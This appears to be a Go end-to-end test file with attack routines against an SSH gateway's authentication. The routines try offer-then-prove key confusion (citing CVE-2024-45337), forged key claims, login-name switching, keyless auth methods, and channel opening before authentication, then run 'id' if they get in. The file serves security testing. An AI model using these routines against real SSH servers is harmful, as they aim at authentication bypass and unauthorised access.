package e2e

import (
	"errors"
	"fmt"
	"io"

	"golang.org/x/crypto/ssh"
)

// attackOffer offers a key that it does not have, then logs in with its own:
// who is it now? (CVE-2024-45337 and its many children.)
func attackOffer(args []string) error {
	own, err := readSigner(args[0])
	if err != nil {
		return err
	}
	theirs, err := readPublic(args[1])
	if err != nil {
		return err
	}
	c, err := dialAuth()
	if err != nil {
		return err
	}
	// Own key first and last, so that neither order is what saves the gateway.
	for _, key := range []ssh.PublicKey{own.PublicKey(), theirs} {
		answer, err := c.offer(args[2], key)
		if err != nil {
			return err
		}
		fmt.Println("offer:", authNames[answer])
	}
	answer, err := c.prove(args[2], own.PublicKey(), own)
	if err != nil {
		return err
	}
	fmt.Println("proof:", authNames[answer])
	if answer != msgAuthSuccess {
		return nil
	}
	return c.report(args[3])
}

// attackForge claims a key and signs with another.
func attackForge(args []string) error {
	own, err := readSigner(args[0])
	if err != nil {
		return err
	}
	theirs, err := readPublic(args[1])
	if err != nil {
		return err
	}
	c, err := dialAuth()
	if err != nil {
		return err
	}
	answer, err := c.prove(args[2], theirs, own)
	switch {
	case errors.Is(err, io.EOF):
		fmt.Println("proof: hung up")
	case err != nil:
		return err
	default:
		fmt.Println("proof:", authNames[answer])
	}
	return nil
}

// attackSwitch offers its key under one login name and proves it under
// another.
func attackSwitch(args []string) error {
	own, err := readSigner(args[0])
	if err != nil {
		return err
	}
	c, err := dialAuth()
	if err != nil {
		return err
	}
	answer, err := c.offer(args[1], own.PublicKey())
	if err != nil {
		return err
	}
	fmt.Println("offer:", authNames[answer])
	if answer, err = c.prove(args[2], own.PublicKey(), own); err != nil {
		return err
	}
	fmt.Println("proof:", authNames[answer])
	if answer != msgAuthSuccess {
		return nil
	}
	return c.report(args[3])
}

// attackMethod tries a method without a key, as many times as it is let, and
// then a channel as if it had worked.
func attackMethod(args []string) error {
	c, err := dialAuth()
	if err != nil {
		return err
	}
	request := ssh.Marshal(struct{ User, Service, Method string }{args[1], "ssh-connection", args[0]})
	switch args[0] {
	case "password":
		request = append(request, ssh.Marshal(struct {
			Change   bool
			Password string
		}{false, ""})...)
	case "keyboard-interactive":
		request = append(request, ssh.Marshal(struct{ Language, Methods string }{})...)
	}
	if err := c.send(append([]byte{msgAuthRequest}, request...)); err != nil {
		return err
	}
	packet, err := c.expect(msgAuthFailure, msgAuthSuccess, msgAuthPKOK)
	if err != nil {
		return err
	}
	fmt.Println("answer:", authNames[packet[0]])
	if packet[0] == msgAuthFailure {
		var failure struct {
			Methods string
			Partial bool
		}
		if err := ssh.Unmarshal(packet[1:], &failure); err != nil {
			return err
		}
		fmt.Println("methods:", failure.Methods)
	}
	return c.tryChannel()
}

// attackEarly opens a channel before it has authenticated ("auth"), or before
// keys are exchanged ("kex").
func attackEarly(args []string) error {
	dial := dialRaw
	if args[0] == "kex" {
		dial = greetRaw
	}
	c, err := dial()
	if err != nil {
		return err
	}
	return c.tryChannel()
}

// tryChannel acts as if authentication had succeeded.
func (c *rawConn) tryChannel() error {
	err := c.openSession(1 << 20)
	if err != nil {
		fmt.Println("channel: none")
		return nil
	}
	fmt.Println("channel: OPEN")
	return c.report("id")
}
